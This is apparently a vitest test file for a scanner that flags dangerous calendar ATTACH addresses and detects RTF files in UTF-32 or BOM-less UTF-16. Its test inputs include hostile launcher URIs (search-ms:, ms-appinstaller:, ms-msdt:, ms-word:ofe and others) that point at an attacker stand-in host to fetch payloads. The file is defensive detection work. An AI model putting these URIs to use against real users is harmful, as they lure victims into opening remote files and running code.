import { describe, expect, it } from 'vitest';
import { type CalendarScan, scanCalendar } from './calendar-names.js';
import { isRtf } from './rtf-objects.js';

// Attacker round 71: calendar ATTACH addresses Windows opens in a program of its own, a link whose last segment is
// the host of an address inside it, and RTF in UTF-32 or UTF-16 without a byte order mark.
function scanOf(uri: string): CalendarScan {
  const scan: CalendarScan = { carry: '', names: [] };
  scanCalendar(scan, `BEGIN:VEVENT\r\nATTACH:${uri}\r\nEND:VEVENT\r\n`, true);
  return scan;
}

describe('calendar ATTACH addresses', () => {
  it('refuses search-ms:, ms-appinstaller: and the other launcher schemes, whatever their case', () => {
    for (const uri of [
      'search-ms:query=x&crumb=location:%5C%5Cevil.example@SSL%5CDavWWWRoot',
      'SEARCH-MS:query=x',
      'search:query=x&crumb=location:\\\\evil.example\\s',
      'ms-appinstaller:?source=https://evil.example/a.appinstaller',
      'ms-msdt:/id PCWDiagnostic',
      'ms-officecmd:{"id":3}',
      'ms-its:mhtml:file://c:\\x.mht!https://evil.example/x.chm::/x.htm',
      'ms-word:ofe|u|https://evil.example/budget.docm',
      'MS-EXCEL:ofv|u|https://evil.example/q4.xlsm',
    ])
      expect(scanOf(uri).problem, uri).toMatch(/opens in a program of its own/);
  });
  it('takes the host of an address inside the path for a site, not a file', () => {
    for (const uri of [
      'https://x.example/redirect/https://www.example.com',
      'https://web.archive.org/web/2020/https:/example.com',
      'https://x.example/r/https%3A%2F%2Fwww.example.com',
      'https://x.example/r/http://shop.example.co.uk:8080',
    ]) {
      const scan = scanOf(uri);
      expect(scan.links ?? [], uri).toEqual([]);
      expect(scan.problem, uri).toBeUndefined();
    }
  });
  it('keeps a file name after an embedded address, a host no top-level domain has, and a bare host name', () => {
    expect(scanOf('https://x.example/r/https://evil.example/invoice.com').links).toEqual(['invoice.com']);
    expect(scanOf('https://x.example/r/https://invoice.exe').links).toEqual(['invoice.exe']);
    expect(scanOf('https://x.example/r/https://invoice.scr').links).toEqual(['invoice.scr']);
    expect(scanOf('https://x.example/r/www.example.com').links).toEqual(['www.example.com']);
  });
});

describe('RTF in UTF-32, or in UTF-16 without its mark', () => {
  const utf32 = (text: string, little: boolean) => {
    const b = Buffer.alloc(text.length * 4);
    for (let k = 0; k < text.length; k++)
      little ? b.writeUInt32LE(text.charCodeAt(k), k * 4) : b.writeUInt32BE(text.charCodeAt(k), k * 4);
    return b;
  };
  it('is taken for RTF', () => {
    expect(isRtf(utf32('\ufeff{\\rtf1', true))).toBe(true);
    expect(isRtf(utf32('\ufeff{\\rtf1', false))).toBe(true);
    expect(isRtf(utf32('{\\rtf1', true))).toBe(true);
    expect(isRtf(utf32('\r\n{\\rtf1', false))).toBe(true);
    expect(isRtf(Buffer.from('{\\rtf1', 'utf16le'))).toBe(true);
    expect(isRtf(Buffer.from('{\\rtf1', 'utf16le').swap16())).toBe(true);
  });
  it('is not found in other text so encoded, nor in binary heads', () => {
    expect(isRtf(utf32('hello {\\rtf1', true))).toBe(false);
    expect(isRtf(Buffer.from('hello', 'utf16le'))).toBe(false);
    expect(isRtf(Buffer.from([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00]))).toBe(false);
    expect(isRtf(Buffer.from([0, 0, 0, 0, 0x7b, 0, 0, 0]))).toBe(false);
  });
});
